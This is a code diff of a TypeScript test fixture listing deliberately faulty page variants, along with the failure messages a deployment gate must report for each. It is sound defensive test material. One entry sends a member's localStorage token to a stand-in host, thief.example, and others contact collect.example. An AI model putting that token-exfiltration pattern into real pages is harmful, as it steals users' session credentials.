@@ -11,150 +11,148 @@ export const overlay = `const cover = document.createElement('div')
 const block = (ms: number) =>
   `for (const end = performance.now() + ${ms}; performance.now() < end;);`
 
-const picture = "src: 'data:image/svg+xml,<svg/>', width: 20, height: 20"
-
 /** 240 kB that no compression makes small. */
 const filler = Array.from({ length: 3_750 }, (_, index) =>
   createHash('sha256').update(String(index)).digest('hex'),
 ).join('')
 
-/** Versions that must not go live because of their own pages, by what they do, with what is said of them. */
-export const refusedPages: [name: string, craft: Craft, sentence: RegExp][] = [
-  ['throws when it is shown', { effect: `throw new Error('at once')` }, /It fails: at once/],
+export type RefusedCraft = [name: string, craft: Craft, sentence: RegExp]
+
+/**
+ * Versions that must not go live because of their own pages, by the kind of fault: what they do, and what is said of
+ * them. The first of a kind is opened by the end-to-end tests, all of them by `npm run bench -- gate`.
+ */
+export const refusedPages: RefusedCraft[][] = [
   [
-    'throws after two seconds',
-    { effect: `setTimeout(() => { throw new Error('too late') }, 2000)` },
-    /It fails: too late/,
+    [
+      'throws after two seconds',
+      { effect: `setTimeout(() => { throw new Error('too late') }, 2000)` },
+      /It fails: too late/,
+    ],
+    ['throws when it is shown', { effect: `throw new Error('at once')` }, /It fails: at once/],
+    [
+      'rejects a promise that nobody waits for',
+      { effect: `void Promise.reject(new Error('unheard'))` },
+      /It fails: unheard/,
+    ],
+    ['reports an error', { effect: `console.error('reported')` }, /It fails: reported/],
+    [
+      'throws for members only',
+      { effect: `if (localStorage.token_link_dashboard) throw new Error('no member')` },
+      /\((?:(?!visitor)[^)])*\): It fails: no member/,
+    ],
+    [
+      'throws in Arabic only',
+      { effect: `if (document.documentElement.lang === 'ar') throw new Error('not Arabic')` },
+      /\(Arabic, [^;]+\): It fails: not Arabic/,
+    ],
+    [
+      'throws on phones only',
+      { effect: `if (innerWidth < 500) throw new Error('too narrow')` },
+      /phone\): It fails: too narrow/,
+    ],
   ],
   [
-    'rejects a promise that nobody waits for',
-    { effect: `void Promise.reject(new Error('unheard'))` },
-    /It fails: unheard/,
-  ],
-  ['reports an error', { effect: `console.error('reported')` }, /It fails: reported/],
-  [
-    'throws for members only',
-    { effect: `if (localStorage.token_link_dashboard) throw new Error('no member')` },
-    /\((?:(?!visitor)[^)])*\): It fails: no member/,
-  ],
-  [
-    'throws in Arabic only',
-    { effect: `if (document.documentElement.lang === 'ar') throw new Error('not Arabic')` },
-    /\(Arabic, [^;]+\): It fails: not Arabic/,
+    [
+      'is hydrated differently for members',
+      {
+        content: `typeof localStorage === 'object' && localStorage.token_link_dashboard ? h('p', null, t.heading) : null`,
+      },
+      /member.*The browser renders it otherwise than the server has/,
+    ],
+    [
+      'is hydrated differently for everybody',
+      { content: `h('p', { translate: 'no' }, String(Math.random()))` },
+      /The browser renders it otherwise/,
+    ],
   ],
   [
-    'throws on phones only',
-    { effect: `if (innerWidth < 500) throw new Error('too narrow')` },
-    /phone\): It fails: too narrow/,
+    [
+      'registers a second React',
+      { effect: '__REACT_DEVTOOLS_GLOBAL_HOOK__.inject({})' },
+      /It renders with a React of its own/,
+    ],
   ],
   [
-    'throws in a listener of the page’s own start',
-    { effect: `requestAnimationFrame(() => { undefinedFunction() })` },
-    /It fails: undefinedFunction is not defined/,
+    [
+      'asks another origin',
+      { effect: `fetch('https://collect.example/visit').catch(() => {})` },
+      /It asks https:\/\/collect\.example|security policy stops.*collect\.example/,
+    ],
   ],
   [
-    'is hydrated differently for members',
-    {
-      content: `typeof localStorage === 'object' && localStorage.token_link_dashboard ? h('p', null, t.heading) : null`,
-    },
-    /member.*The browser renders it otherwise than the server has/,
+    [
+      'carries the token off',
+      {
+        effect: `if (localStorage.token_link_dashboard) location.href = 'https://thief.example/?' + localStorage.token_link_dashboard`,
+      },
+      /member.*It leaves for https:\/\/thief\.example\/ without a click/,
+    ],
+    [
+      'loads its document again',
+      { effect: `setTimeout(() => location.reload(), 1000)` },
+      /It leaves for \/probe-\S+ without a click/,
+    ],
   ],
   [
-    'is hydrated differently for everybody',
-    { content: `h('p', { translate: 'no' }, String(Math.random()))` },
-    /The browser renders it otherwise/,
+    [
+      'leads to another page',
+      {
+        effect: `setTimeout(() => { history.pushState(null, '', '/error'); dispatchEvent(new PopStateEvent('popstate')) }, 1000)`,
+      },
+      /It leads to \/error without a click/,
+    ],
+  ],
+  [['opens a window', { effect: `open('/error')` }, /It opens a window without a click/]],
+  [
+    [
+      'loads more than its budget',
+      { entry: `const filler = '${filler}'` },
+      /The first load of \/probe-\w .* needs .* more than its budget/,
+    ],
+  ],
+  [['shows a dialog', { effect: `alert('Hello')` }, /It shows a dialog of the browser \(Hello\)/]],
+  [
+    ['has no heading', { heading: `h('h2', null, t.heading)` }, /It shows no heading/],
+    [
+      'hides its heading',
+      { heading: `h('h1', { style: { opacity: 0 } }, t.heading)` },
+      /It shows no heading/,
+    ],
   ],
   [
-    'registers a second React',
-    { effect: '__REACT_DEVTOOLS_GLOBAL_HOOK__.inject({})' },
-    /It renders with a React of its own/,
+    [
+      'speaks English in Arabic',
+      { ar: { intro: 'This page is ready for its first words.' } },
+      /Arabic.*It shows “This page is ready for its first words.” in Arabic too/,
+    ],
+    [
+      'shows the id of a message',
+      { en: { intro: 'probe.intro' } },
+      /It shows probe\.intro in place/,
+    ],
   ],
   [
-    'asks another origin',
-    { effect: `fetch('https://collect.example/visit').catch(() => {})` },
-    /It asks https:\/\/collect\.example|security policy stops.*collect\.example/,
+    [
+      'has text that is too pale',
+      { content: `h('p', { style: { color: '#ddd', background: '#fff' } }, t.intro)` },
+      /color contrast/,
+    ],
+    ['has a button without a name', { content: `h('button', { type: 'button' })` }, /Buttons must/],
   ],
   [
-    'loads a picture of another origin',
-    { effect: `new Image().src = 'https://collect.example/pixel.gif'` },
-    /It asks https:\/\/collect\.example|security policy stops.*collect\.example/,
+    [
+      'covers the shop from within its region',
+      { content: `h('div', { style: { position: 'fixed', inset: 0, zIndex: 99999 } })` },
+      /Something lies on top of the shop's controls/,
+    ],
+    [
+      'lets no click through',
+      {
+        effect: `document.body.style.pointerEvents = 'none'; return () => { document.body.style.pointerEvents = '' }`,
+      },
+      /Something lies on top of the shop's controls/,
+    ],
   ],
-  [
-    'sends a beacon to another origin',
-    { effect: `navigator.sendBeacon('https://collect.example/visit', '1')` },
-    /It asks https:\/\/collect\.example|security policy stops.*collect\.example/,
-  ],
-  [
-    'carries the token off',
-    {
-      effect: `if (localStorage.token_link_dashboard) location.href = 'https://thief.example/?' + localStorage.token_link_dashboard`,
-    },
-    /member.*It leaves for https:\/\/thief\.example\/ without a click/,
-  ],
-  [
-    'loads its document again',
-    { effect: `setTimeout(() => location.reload(), 1000)` },
-    /It leaves for \/probe-\S+ without a click/,
-  ],
-  [
-    'leads to another page',
-    {
-      effect: `setTimeout(() => { history.pushState(null, '', '/error'); dispatchEvent(new PopStateEvent('popstate')) }, 1000)`,
-    },
-    /It leads to \/error without a click/,
-  ],
-  ['opens a window', { effect: `open('/error')` }, /It opens a window without a click/],
-  [
-    'loads more than its budget',
-    { entry: `const filler = '${filler}'` },
-    /The first load of \/probe-\w .* needs .* more than its budget/,
-  ],
-  ['shows a dialog', { effect: `alert('Hello')` }, /It shows a dialog of the browser \(Hello\)/],
-  ['has no heading', { heading: `h('h2', null, t.heading)` }, /It shows no heading/],
-  [
-    'hides its heading',
-    { heading: `h('h1', { style: { opacity: 0 } }, t.heading)` },
-    /It shows no heading/,
-  ],
-  [
-    'speaks English in Arabic',
-    { ar: { intro: 'This page is ready for its first words.' } },
-    /Arabic.*It shows “This page is ready for its first words.” in Arabic too/,
-  ],
-  ['shows the id of a message', { en: { intro: 'probe.intro' } }, /It shows probe\.intro in place/],
-  ['has a picture without a name', { content: `h('img', { ${picture} })` }, /Images must have alt/],
-  ['has a button without a name', { content: `h('button', { type: 'button' })` }, /Buttons must/],
-  [
-    'has a field without a label',
-    { content: `h('input', null)` },
-    /Form elements must have labels/,
-  ],
-  [
-    'has text that is too pale',
-    { content: `h('p', { style: { color: '#ddd', background: '#fff' } }, t.intro)` },
-    /color contrast/,
-  ],
-  [
-    'covers the shop with an element of the body',
-    { effect: `${overlay}; return () => cover.remove()` },
-    /Something lies on top of the shop's controls/,
-  ],
-  [
-    'covers the shop from within its region',
-    { content: `h('div', { style: { position: 'fixed', inset: 0, zIndex: 99999 } })` },
-    /Something lies on top of the shop's controls/,
-  ],
-  [
-    'lets no click through',
-    {
-      effect: `document.body.style.pointerEvents = 'none'; return () => { document.body.style.pointerEvents = '' }`,
-    },
-    /Something lies on top of the shop's controls/,
-  ],
-  ['blocks the page when it is shown', { effect: block(5000) }, /It blocks the page for \d+ ms/],
-  [
-    'blocks the page later',
-    { effect: `setTimeout(() => { ${block(3000)} }, 1500)` },
-    /It blocks the page for \d+ ms/,
-  ],
+  [['blocks the page when it is shown', { effect: block(5000) }, /It blocks the page for \d+ ms/]],
 ]
